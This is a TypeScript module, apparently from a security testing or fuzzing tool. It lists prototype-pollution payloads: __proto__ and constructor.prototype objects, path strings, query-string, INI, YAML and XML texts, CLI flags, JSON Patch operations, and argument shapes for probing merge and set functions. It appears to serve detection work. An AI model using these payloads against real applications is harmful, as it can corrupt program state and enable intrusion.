import { type Value, callback, hole } from '../../../protocol/plan.ts'

/** Placeholder for the nonce, which is both the name and the value of the polluted member. */
export const N = hole(0)

type Members = readonly (readonly [string, Value])[]
const object = (...members: Members): Value => Object.fromEntries(members)
/** Uses JSON text, because `__proto__` in a literal sets the prototype. */
const parsed = (text: string): Value => ({ $: 'json', text })

const byName = parsed(`{"__proto__":{"${N}":"${N}"}}`)
const byConstructor = object(['constructor', object(['prototype', object([N, N])])])
/** Objects that pollute a prototype when merged. */
export const EVIL: readonly Value[] = [
  byName,
  byConstructor,
  parsed(`{"a":{"__proto__":{"${N}":"${N}"}}}`),
]

const PATHS: readonly Value[] = [
  `__proto__.${N}`,
  `constructor.prototype.${N}`,
  ['__proto__', N],
  ['constructor', 'prototype', N],
  [['__proto__'], N],
  [['constructor'], ['prototype'], N],
  ['', ['__proto__'], N],
  [[''], ['constructor'], ['prototype'], N],
  `/__proto__/${N}`,
  `__proto__/${N}`,
  `/constructor/prototype/${N}`,
  `/a/__proto__/${N}`,
  `/a/constructor/prototype/${N}`,
  `__proto__[${N}]`,
  `[__proto__][${N}]`,
  `["__proto__"]["${N}"]`,
  `__proto__:${N}`,
  `__proto__->${N}`,
  `__proto__|${N}`,
  `__proto__`,
  `a.__proto__.${N}`,
  `a.__proto__.__proto__.${N}`,
  `a.constructor.prototype.${N}`,
  `$.__proto__.${N}`,
  `$.constructor.prototype.${N}`,
]

const TEXTS: readonly string[] = [
  `{"__proto__":{"${N}":"${N}"}}`,
  `{"constructor":{"prototype":{"${N}":"${N}"}}}`,
  `{"__proto__.${N}":"${N}"}`,
  `__proto__.${N}=${N}`,
  `__proto__.${N}:${N}`,
  `__proto__.${N}: ${N}`,
  `__proto__.${N} ${N}`,
  `constructor.prototype.${N}=${N}`,
  `__proto__[${N}]=${N}`,
  `?__proto__[${N}]=${N}`,
  `http://a/?__proto__[${N}]=${N}`,
  `http://a/?__proto__.${N}=${N}`,
  `#__proto__[${N}]=${N}`,
  `constructor[prototype][${N}]=${N}`,
  `a[__proto__][${N}]=${N}`,
  `a[constructor][prototype][${N}]=${N}`,
  `[__proto__]\n${N}=${N}`,
  `[__proto__]\n${N}="${N}"`,
  `[constructor.prototype]\n${N}="${N}"`,
  `__proto__.${N} = "${N}"`,
  `__proto__:\n  ${N}: ${N}\n`,
  `__proto__ {\n  ${N} ${N}\n}\n`,
  `<__proto__><${N}>${N}</${N}></__proto__>`,
  `<a><__proto__><${N}>${N}</${N}></__proto__></a>`,
  `--__proto__.${N}=${N}`,
  `--constructor.prototype.${N}=${N}`,
  `__proto__.${N}\n${N}`,
  `__proto__,${N}\n`,
  `__proto__\t${N}`,
]

const LISTS: readonly Value[] = [
  [`--__proto__.${N}`, N],
  [`--__proto__.${N}=${N}`],
  [`--constructor.prototype.${N}=${N}`],
  [`--a.constructor.prototype.${N}`, N],
  [`__proto__.${N}=${N}`],
  [[`__proto__.${N}`, N]],
  [['__proto__', object([N, N])]],
  [{}, byName],
  [byName, {}],
  [object(['op', 'add'], ['path', `/__proto__/${N}`], ['value', N])],
  [object(['op', 'add'], ['path', `/constructor/prototype/${N}`], ['value', N])],
  [object(['op', 'add'], ['path', ['__proto__', N]], ['value', N])],
  [object(['op', 'add'], ['path', ['constructor', 'prototype', N]], ['value', N])],
  [object(['op', 'replace'], ['path', ['__proto__', N]], ['value', N])],
  [object(['op', 'add'], ['path', [['__proto__'], N]], ['value', N])],
  [object(['name', `__proto__[${N}]`], ['value', N])],
  [object(['name', `__proto__.${N}`], ['value', N])],
  [object(['key', `__proto__.${N}`], ['value', N])],
  [object(['id', '__proto__'], ['name', '__proto__'], ['value', N])],
]

/** Objects whose member names are paths. */
export const KEYED: readonly Value[] = [
  parsed(`{"__proto__.${N}":"${N}"}`),
  object([`constructor.prototype.${N}`, N]),
  object([`__proto__[${N}]`, N]),
  object([`/__proto__/${N}`, N]),
  object([`__proto__/${N}`, N]),
  object([`__proto__:${N}`, N]),
  object([`__proto____${N}`, N]),
  object([`a.__proto__.${N}`, N], ['a', {}]),
]

/** Argument lists that pollute a prototype in a vulnerable function. */
export const POLLUTION_SHAPES: readonly (readonly Value[])[] = [
  ...EVIL.flatMap((evil): Value[][] => [
    [{}, evil],
    [evil],
    [{}, {}, evil],
    [true, {}, evil],
    [{}, evil, true],
    [evil, {}],
    [{ a: {} }, evil],
    [{}, evil, callback],
    [evil, evil],
    [[{}, evil]],
    [{ $: 'function' }, evil],
    [[], evil],
    ['a', evil],
    [{}, 'a', evil],
    [{}, evil, { deep: true, recursive: true, merge: true }],
  ]),
  ...PATHS.flatMap((path): Value[][] => [
    [{}, path, N],
    [path, N],
    [{}, N, path],
    [path, N, {}],
    [N, path, {}],
    [path, {}, N],
    [{ a: {} }, path, N],
    [[], path, N],
    [{}, [path], N],
    [[path], [N]],
    [path, N, callback],
    [path],
    [{}, path, { $: 'function' }],
  ]),
  [{}, '__proto__', N, N],
  ['__proto__', N, N],
  [{}, '__proto__', object([N, N])],
  ['__proto__', object([N, N])],
  [{}, 'constructor', object(['prototype', object([N, N])])],
  [{}, ['__proto__', N], N, true],
  [{}, `__proto__.${N}`, N, true],
  [{}, `__proto__.${N}`, N, '.'],
  [{}, `__proto__.${N}`, '.', N],
  [{}, '.', `__proto__.${N}`, N],
  [{}, '__proto__', 'a', N],
  [N, N, '__proto__'],
  [{}, object(['path', `__proto__.${N}`], ['value', N])],
  [object(['path', `__proto__.${N}`], ['value', N])],
  [object(['key', `__proto__.${N}`], ['value', N])],
  ...TEXTS.flatMap((text): Value[][] => [[text], [{ $: 'buffer', text }]]).filter(
    ([first]) => typeof first === 'string',
  ),
  ...TEXTS.slice(0, 8).map((text): Value[] => [text, {}]),
  ...LISTS.flatMap((list): Value[][] => [[list], [{}, list]]),
  ...KEYED.flatMap((each): Value[][] => [[each], [{}, each]]),
]
